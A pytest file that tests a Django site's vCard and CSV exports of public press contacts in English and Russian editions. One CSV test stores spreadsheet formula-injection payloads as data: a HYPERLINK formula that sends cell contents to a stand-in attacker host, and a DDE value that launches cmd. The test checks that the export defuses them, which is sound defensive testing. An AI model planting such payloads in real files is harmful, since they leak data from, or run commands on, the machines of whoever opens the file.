"""/press/contacts.vcf, .csv and .xlsx: the public press contacts, per edition."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import translation

from core.editions import organisation
from people.exports import spreadsheet_safe
from people.models import Contact
from tests.contentline_reader import unescape, unfold
from tests.factories import ContactFactory, PersonFactory, PositionFactory

pytestmark = pytest.mark.django_db

VCF, CSV = "/press/contacts.vcf", "/press/contacts.csv"
RU_VCF, RU_CSV = "/ru/press/contacts.vcf", "/ru/press/contacts.csv"
HEADER = [
    "First Name",
    "Middle Name",
    "Last Name",
    "Company",
    "Department",
    "Job Title",
    "Business Phone",
    "Business Phone 2",
    "Business Fax",
    "E-mail Address",
    "E-mail 2 Address",
    "Business Street",
    "Web Page",
    "Notes",
]
BOM = b"\xef\xbb\xbf"


def vcards(body):
    """Each card as a list of (name with parameters, raw value), in order."""
    text = body.decode("utf-8")
    assert not text or text.endswith("\r\n")
    cards, current = [], None
    for line in unfold(text).split("\r\n")[:-1]:
        if line == "BEGIN:VCARD":
            current = []
        elif line == "END:VCARD":
            cards.append(current)
            current = None
        else:
            assert current is not None, f"{line!r} outside a card"
            name, _colon, value = line.partition(":")
            current.append((name, value))
    assert current is None
    return cards


def card_named(body, full_name):
    (card,) = [c for c in vcards(body) if unescape(dict(c)["FN"]) == full_name]
    return card


def names(body):
    return [unescape(dict(card)["FN"]) for card in vcards(body)]


def csv_rows(body):
    assert body.startswith(BOM)
    return list(csv.reader(io.StringIO(body[len(BOM) :].decode("utf-8"), newline="")))


@pytest.fixture
def press_secretary():
    """A public person with a current position, a past one and contacts of every kind."""
    person = PersonFactory(
        russian=True,
        given_name_en="Vladimir",
        patronymic_en="Vasilyevich",
        family_name_en="Zainetdinov",
        given_name_ru="Владимир",
        patronymic_ru="Васильевич",
        family_name_ru="Зайнетдинов",
    )
    PositionFactory(
        person=person,
        title_en="Assistant",
        title_ru="Помощник",
        start_date=datetime.date(2010, 1, 1),
        end_date=datetime.date(2012, 1, 1),
    )
    PositionFactory(
        person=person,
        russian=True,
        title_en="Press Secretary",
        title_ru="Пресс-секретарь",
        start_date=datetime.date(2012, 2, 1),
    )
    kinds = [
        (Contact.Kind.PHONE, "+7 495 621-33-23"),
        (Contact.Kind.FAX, "+7 495 621-33-24"),
        (Contact.Kind.TEL_FAX, "+7 495 606-97-71"),
        (Contact.Kind.EMAIL, "press@odkb-csto.org"),
    ]
    for kind, value in kinds:
        ContactFactory(person=person, kind=kind, value=value)
    ContactFactory(
        person=person,
        kind=Contact.Kind.ADDRESS,
        value="",
        address_en="Sverchkov per., 8, bld. 1\nMoscow, 101000",
        address_ru="Сверчков пер., 8, стр. 1\nМосква, 101000",
    )
    return person


class TestResponses:
    def test_urls_are_stable(self):
        assert reverse("people:contacts_vcf") == VCF
        assert reverse("people:contacts_csv") == CSV
        with translation.override("ru"):
            assert reverse("people:contacts_vcf") == RU_VCF
            assert reverse("people:contacts_csv") == RU_CSV

    @pytest.mark.parametrize(
        ("url", "content_type", "filename", "language"),
        [
            (VCF, "text/vcard; charset=utf-8", "press-contacts.vcf", "en"),
            (RU_VCF, "text/vcard; charset=utf-8", "press-contacts-ru.vcf", "ru"),
            (CSV, "text/csv; charset=utf-8", "press-contacts.csv", "en"),
            (RU_CSV, "text/csv; charset=utf-8", "press-contacts-ru.csv", "ru"),
        ],
    )
    def test_headers(self, client, url, content_type, filename, language):
        ContactFactory(russian=True)

        response = client.get(url)

        assert response.status_code == 200
        assert response["Content-Type"] == content_type
        assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
        assert response["Content-Language"] == language

    @pytest.mark.parametrize("url", [VCF, CSV])
    def test_only_reading_is_allowed(self, client, url):
        assert client.post(url).status_code == 405

    def test_nothing_published_gives_empty_exports(self, client):
        assert client.get(VCF).content == b""
        assert csv_rows(client.get(CSV).content) == [HEADER]


class TestVCard:
    def test_a_person_card(self, client, press_secretary):
        card = card_named(client.get(VCF).content, "Vladimir Vasilyevich Zainetdinov")

        assert card[0] == ("VERSION", "3.0")
        props = dict(card)
        assert props["N"] == "Zainetdinov;Vladimir;Vasilyevich;;"
        assert unescape(props["TITLE"]) == "Press Secretary"  # the current term, not the old one
        assert unescape(props["ORG"]) == "Collective Security Treaty Organization"
        assert props["URL"] == f"http://testserver/people/{press_secretary.slug}/"
        lines = [(name, value) for name, value in card if name not in {"N", "FN", "TITLE", "ORG"}]
        assert lines == [
            ("VERSION", "3.0"),
            ("TEL;TYPE=work,voice", "+7 495 621-33-23"),
            ("TEL;TYPE=work,fax", "+7 495 621-33-24"),
            ("TEL;TYPE=work,voice,fax", "+7 495 606-97-71"),
            ("EMAIL;TYPE=internet,work", "press@odkb-csto.org"),
            ("ADR;TYPE=work", ";;Sverchkov per.\\, 8\\, bld. 1\\nMoscow\\, 101000;;;;"),
            ("URL", f"http://testserver/people/{press_secretary.slug}/"),
        ]

    def test_an_office_card(self, client):
        ContactFactory(label_en="Press service", kind=Contact.Kind.PHONE, value="+7 495 621-33-23")
        ContactFactory(label_en="Press service", kind=Contact.Kind.EMAIL, value="press@odkb.org")
        ContactFactory(label_en="Accreditation", kind=Contact.Kind.EMAIL, value="acc@odkb.org")

        body = client.get(VCF).content

        assert names(body) == ["Press service", "Accreditation"]
        props = dict(card_named(body, "Press service"))
        assert props["N"] == ";;;;"  # required in vCard 3.0
        assert props["ORG"] == "Collective Security Treaty Organization;Press service"
        assert props["TEL;TYPE=work,voice"] == "+7 495 621-33-23"
        assert props["EMAIL;TYPE=internet,work"] == "press@odkb.org"

    def test_offices_come_first_then_people_in_order(self, client):
        second = PersonFactory(order=2, family_name_en="Second")
        first = PersonFactory(order=1, family_name_en="First")
        ContactFactory(person=second)
        ContactFactory(person=first)
        ContactFactory(label_en="Press service")

        assert names(client.get(VCF).content) == [
            "Press service",
            first.full_name,
            second.full_name,
        ]

    def test_non_public_contacts_and_people_are_absent(self, client, press_secretary):
        ContactFactory(person=press_secretary, value="+7 000 000-00-01", is_public=False)
        ContactFactory(label_en="Internal line", value="+7 000 000-00-02", is_public=False)
        hidden = PersonFactory(is_public=False, family_name_en="Hidden")
        ContactFactory(person=hidden, value="+7 000 000-00-03")
        quiet = PersonFactory(family_name_en="Quiet")  # public, but no public contact
        ContactFactory(person=quiet, value="+7 000 000-00-04", is_public=False)

        body = client.get(VCF).content

        assert names(body) == [press_secretary.full_name]
        assert b"+7 000 000-00-0" not in body
        assert b"Hidden" not in body
        assert b"Internal line" not in body
        assert b"Quiet" not in body

    def test_russian_edition_exports_russian_texts(self, client, press_secretary):
        ContactFactory(russian=True)
        english_only = PersonFactory(family_name_en="Englishonly")
        ContactFactory(person=english_only)

        body = client.get(RU_VCF).content

        assert names(body) == ["Пресс-служба", "Владимир Васильевич Зайнетдинов"]
        props = dict(card_named(body, "Владимир Васильевич Зайнетдинов"))
        assert props["N"] == "Зайнетдинов;Владимир;Васильевич;;"
        assert unescape(props["TITLE"]) == "Пресс-секретарь"
        assert unescape(props["ORG"]) == organisation("ru")
        assert props["URL"] == f"http://testserver/ru/people/{press_secretary.slug}/"
        assert b"Englishonly" not in body
        assert b"Press Secretary" not in body

    def test_escaping_and_folding(self, client):
        label = "Служба, которая отвечает на вопросы; журналистов \\ и аккредитует их\nна встречи"
        address = "Сверчков пер., д. 8, стр. 1;\r\nМосква, 101000"
        ContactFactory(label_en=label, kind=Contact.Kind.ADDRESS, value="", address_en=address)

        body = client.get(VCF).content

        for line in body.split(b"\r\n")[:-1]:
            assert len(line) <= 75
            line.decode("utf-8")  # strict: no character is split between two lines
        assert b"\r\n " in body
        props = dict(vcards(body)[0])
        assert unescape(props["FN"]) == label
        assert props["FN"].startswith("Служба\\, которая отвечает на вопросы\\; журналистов \\\\")
        street = props["ADR;TYPE=work"].split(";;")[1]
        assert unescape(street) == "Сверчков пер., д. 8, стр. 1;\nМосква, 101000"


class TestCsv:
    def records(self, body):
        rows = csv_rows(body)
        assert rows[0] == HEADER
        return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]

    def test_bom_header_and_one_row_per_person_or_office(self, client, press_secretary):
        ContactFactory(label_en="Press service", value="press@odkb.org", kind=Contact.Kind.EMAIL)
        ContactFactory(person=press_secretary, is_public=False, value="+7 999 000-00-01")
        ContactFactory(person=PersonFactory(is_public=False), value="+7 999 000-00-02")

        body = client.get(CSV).content
        office, person = self.records(body)

        assert body.startswith(BOM)
        assert b"\r\n" in body  # RFC 4180 line ends
        assert office["Company"] == "Collective Security Treaty Organization"
        assert office["Department"] == "Press service"
        assert office["E-mail Address"] == "press@odkb.org"
        assert person["First Name"] == "Vladimir"
        assert person["Middle Name"] == "Vasilyevich"
        assert person["Last Name"] == "Zainetdinov"
        assert person["Job Title"] == "Press Secretary"
        assert person["Web Page"] == f"http://testserver/people/{press_secretary.slug}/"
        # Phone numbers as a contact program reads them: no apostrophe.
        assert person["Business Phone"] == "+7 495 621-33-23"
        assert person["Business Phone 2"] == "+7 495 606-97-71"  # the tel/fax line
        assert person["Business Fax"] == "+7 495 621-33-24"
        assert person["E-mail Address"] == "press@odkb-csto.org"
        assert person["Business Street"] == "Sverchkov per., 8, bld. 1\nMoscow, 101000"
        assert person["Notes"] == ""  # every number found a column
        assert b"999" not in body

    def test_numbers_typed_any_way_are_written_the_same(self, client):
        ContactFactory(kind=Contact.Kind.PHONE, value="8 (495) 621-33-23")

        (office,) = self.records(client.get(CSV).content)

        assert office["Business Phone"] == "+7 495 621-33-23"

    def test_the_header_is_what_the_programs_read_in_every_edition(self, client):
        assert csv_rows(client.get(RU_CSV).content)[0] == HEADER

    def test_russian_edition_exports_russian_texts(self, client, press_secretary):
        ContactFactory(label_en="Press service", label_ru="Пресс-служба")
        ContactFactory(person=PersonFactory(family_name_en="Englishonly"))

        body = client.get(RU_CSV).content
        office, person = self.records(body)

        assert office["Department"] == "Пресс-служба"
        assert office["Company"] == organisation("ru")
        assert (person["First Name"], person["Last Name"]) == ("Владимир", "Зайнетдинов")
        assert person["Job Title"] == "Пресс-секретарь"
        assert person["Company"] == organisation("ru")
        assert person["Business Street"] == "Сверчков пер., 8, стр. 1\nМосква, 101000"
        assert person["Web Page"] == f"http://testserver/ru/people/{press_secretary.slug}/"
        assert b"Englishonly" not in body

    def test_formula_injection_is_defused_in_every_other_field(self, client):
        ContactFactory(
            label_en='=HYPERLINK("http://evil.example/?"&A1,"Press")',
            kind=Contact.Kind.EMAIL,
            value="@SUM(1+1)*cmd|' /C calc'!A0",
        )

        (office,) = self.records(client.get(CSV).content)

        assert office["Department"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Press")'
        assert office["E-mail Address"] == "'@SUM(1+1)*cmd|' /C calc'!A0"

    def test_a_stored_value_that_is_no_number_is_defused_too(self, client):
        contact = ContactFactory(kind=Contact.Kind.PHONE)
        Contact.objects.filter(pk=contact.pk).update(value="=1+2")  # written before the check

        (office,) = self.records(client.get(CSV).content)

        assert office["Business Phone"] == "'=1+2"

    @pytest.mark.parametrize(
        ("value", "safe"),
        [
            ("=1+1", "'=1+1"),
            ("+7 495 621-33-23", "'+7 495 621-33-23"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("8 495 621-33-23", "8 495 621-33-23"),
            ("Press service", "Press service"),
            ("a=b", "a=b"),
            ("", ""),
            (None, ""),
        ],
    )
    def test_spreadsheet_safe(self, value, safe):
        assert spreadsheet_safe(value) == safe


class TestQueries:
    @pytest.mark.parametrize("url", [VCF, CSV, RU_VCF, RU_CSV])
    def test_two_queries_whatever_the_number_of_contacts(
        self, client, django_assert_num_queries, url
    ):
        def add_people(n):
            for _ in range(n):
                person = PersonFactory(russian=True)
                PositionFactory(person=person, russian=True)
                ContactFactory(person=person)
                ContactFactory(person=person, kind=Contact.Kind.EMAIL, value="a@b.org")
            ContactFactory(russian=True)

        add_people(2)
        with django_assert_num_queries(2):  # contacts with people; positions
            assert client.get(url).status_code == 200

        add_people(15)
        with django_assert_num_queries(2):
            body = client.get(url).content
        if url.endswith(".vcf"):
            assert len(vcards(body)) == 1 + 17  # the office labels are all the same
        else:
            assert len(csv_rows(body)) == 1 + 17 + 1  # a row per person, one for the office


class TestLinks:
    def test_press_contacts_page_links_the_exports(self, client):
        ContactFactory(russian=True)

        html = client.get("/press/contacts/").content.decode()
        russian = client.get("/ru/press/contacts/").content.decode()

        assert f'href="{VCF}"' in html
        assert f'href="{CSV}"' in html
        assert f'href="{RU_VCF}"' in russian
        assert f'href="{RU_CSV}"' in russian

    def test_no_links_when_there_is_nothing_to_download(self, client):
        html = client.get("/press/contacts/").content.decode()

        assert f'href="{VCF}"' not in html
